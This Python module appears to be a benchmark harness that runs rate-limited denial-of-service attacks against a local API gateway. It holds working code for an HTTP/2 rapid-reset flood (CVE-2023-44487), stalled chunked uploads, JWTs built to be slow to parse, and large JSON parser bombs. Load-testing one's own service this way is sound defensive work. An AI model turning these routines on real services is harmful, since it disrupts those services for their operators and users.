"""Attackers to run beside an honest load: bounded in rate and time, against this machine only.

`ATTACK_TOKEN=... python -m bench.attack KIND PORT SECONDS`, the token being that of a caller who means ill.
"""

import base64
import contextlib
import itertools
import json
import os
import socket
import struct
import sys
import time
from collections import deque
from collections.abc import Callable, Iterable, Iterator

HOST = "127.0.0.1"
RESETS_BYTES_PER_SECOND = 170_000
UPLOADS = 16
TOKENS_PER_SECOND = 20
BODIES_PER_SECOND = 2
BODY_BYTES = 1_000_000
AT_ONCE = 16
SECONDS = 5.0
"""How long to wait for an answer."""

Attacker = Callable[[int, "Clock", str], None]


class Clock:
    """Time that is left, and a pace to keep."""

    def __init__(self, seconds: float) -> None:
        self._began = time.monotonic()
        self._seconds = seconds

    def ticks(self, per_second: float) -> Iterator[int]:
        for n in itertools.count():
            due, elapsed = n / per_second, time.monotonic() - self._began
            if max(due, elapsed) > self._seconds:
                return
            time.sleep(max(0.0, due - elapsed))
            yield n


def resets(port: int, clock: Clock, token: str) -> None:
    """HTTP/2 streams that are opened and reset in one breath, without a credential (CVE-2023-44487)."""
    batch = 20
    client: socket.socket | None = None
    first = 1
    for _ in clock.ticks(RESETS_BYTES_PER_SECOND / len(opened_and_reset(3, batch))):
        try:
            if client is None:
                client, first = socket.create_connection((HOST, port), SECONDS), 1
                client.sendall(PREFACE)
            client.sendall(opened_and_reset(first, batch))
            first += 2 * batch
            _throw_away(client)
        except OSError:
            _close(client)
            client = None
    _close(client)


def uploads(port: int, clock: Clock, token: str) -> None:
    """Bodies that are announced and never come; each is announced again when the gateway ends it."""
    head = _head("POST /v1/messages", token, "transfer-encoding: chunked")
    clients: list[socket.socket | None] = [None] * UPLOADS
    for n in clock.ticks(UPLOADS):
        client = clients[n % UPLOADS]
        try:
            if client is None:
                client = clients[n % UPLOADS] = socket.create_connection((HOST, port), SECONDS)
                client.sendall(head)
            _throw_away(client)
        except OSError:
            _close(client)
            clients[n % UPLOADS] = None
    for client in clients:
        _close(client)


def tokens(port: int, clock: Clock, token: str) -> None:
    """Unsigned tokens whose claims take long to parse."""
    claims = json.dumps({"iss": "claude-code-lab", "aud": "anthropic-api"})[:-1] + ',"x":[' + "9e307," * 1900 + "1]}"
    parts = ['{"alg":"RS256","typ":"JWT"}', claims, "x" * 64]
    costly = ".".join(base64.urlsafe_b64encode(part.encode()).decode().rstrip("=") for part in parts)
    request = _head("POST /v1/messages", costly, "content-length: 2") + b"{}"
    _send_all(port, (request for _ in clock.ticks(TOKENS_PER_SECOND)))


def bombs(port: int, clock: Clock, token: str) -> None:
    """Bodies that take long to parse or to translate."""
    shapes = [bomb(shape) for shape in BOMBS]
    requests = [_head("POST /v1/messages", token, f"content-length: {len(body)}") + body for body in shapes]
    _send_all(port, (requests[n % len(requests)] for n in clock.ticks(BODIES_PER_SECOND)))


ATTACKERS: dict[str, Attacker] = {"resets": resets, "uploads": uploads, "tokens": tokens, "bombs": bombs}


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """https://www.rfc-editor.org/rfc/rfc9113#section-4.1"""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _indexed(name: bytes, value: bytes) -> bytes:
    """A field that the peer's HPACK table keeps (https://www.rfc-editor.org/rfc/rfc7541#section-6.2.1)."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
_FIRST = b"\x83\x86" + _indexed(b":path", b"/v1/messages") + _indexed(b":authority", b"gateway")
_AGAIN = b"\x83\x86\xbf\xbe"
_CANCEL = struct.pack(">I", 8)


def opened_and_reset(first: int, count: int) -> bytes:
    """So many streams from the number `first` on; the first of a connection is 1."""
    streams = range(first, first + 2 * count, 2)
    return b"".join(
        _frame(1, 4, stream, _FIRST if stream == 1 else _AGAIN) + _frame(3, 0, stream, _CANCEL) for stream in streams
    )


_MESSAGES = '{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":"q"}],'
BOMBS = {
    "numbers": ('"metadata":{"x":[', "9e307,", "1]}}"),
    "tools": ('"tools":[', '{"name":"a","input_schema":{}},', '{"name":"a","input_schema":{}}]}'),
    "empty arrays": ('"metadata":{"x":[', "[],", "1]}}"),
    "properties": (
        '"tools":[{"name":"a","input_schema":{"type":"object","properties":{',
        '"p%d":{},',
        '"q":{}}}}]}',
    ),
}


def bomb(shape: str) -> bytes:
    """A body of BODY_BYTES."""
    begin, item, end = BOMBS[shape]
    count = (BODY_BYTES - len(_MESSAGES + begin + end)) // (len(item) + 4 * item.count("%d"))
    items = "".join(item % n for n in range(count)) if "%d" in item else item * count
    return (_MESSAGES + begin + items + end).encode()


def _head(line: str, token: str, *fields: str) -> bytes:
    known = ["host: gateway", f"authorization: Bearer {token}", "content-type: application/json"]
    return "\r\n".join([f"{line} HTTP/1.1", *known, *fields, "", ""]).encode()


def _send_all(port: int, requests: Iterable[bytes]) -> None:
    """Waits for an answer only when AT_ONCE others have been sent since."""
    waiting: deque[socket.socket] = deque()
    for request in requests:
        with contextlib.suppress(OSError):
            waiting.append(socket.create_connection((HOST, port), SECONDS))
            waiting[-1].sendall(request)
        if len(waiting) > AT_ONCE:
            with contextlib.suppress(OSError), waiting.popleft() as client:
                client.recv(1 << 16)
    for client in waiting:
        client.close()


def _throw_away(client: socket.socket) -> None:
    """What has come. Raises OSError where the connection was closed."""
    client.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while client.recv(1 << 16):
            pass
        raise ConnectionError
    client.settimeout(SECONDS)


def _close(client: socket.socket | None) -> None:
    if client is not None:
        client.close()


def main(argv: list[str]) -> None:
    kind, port, seconds = argv
    ATTACKERS[kind](int(port), Clock(float(seconds)), os.environ.get("ATTACK_TOKEN", ""))


if __name__ == "__main__":
    main(sys.argv[1:])
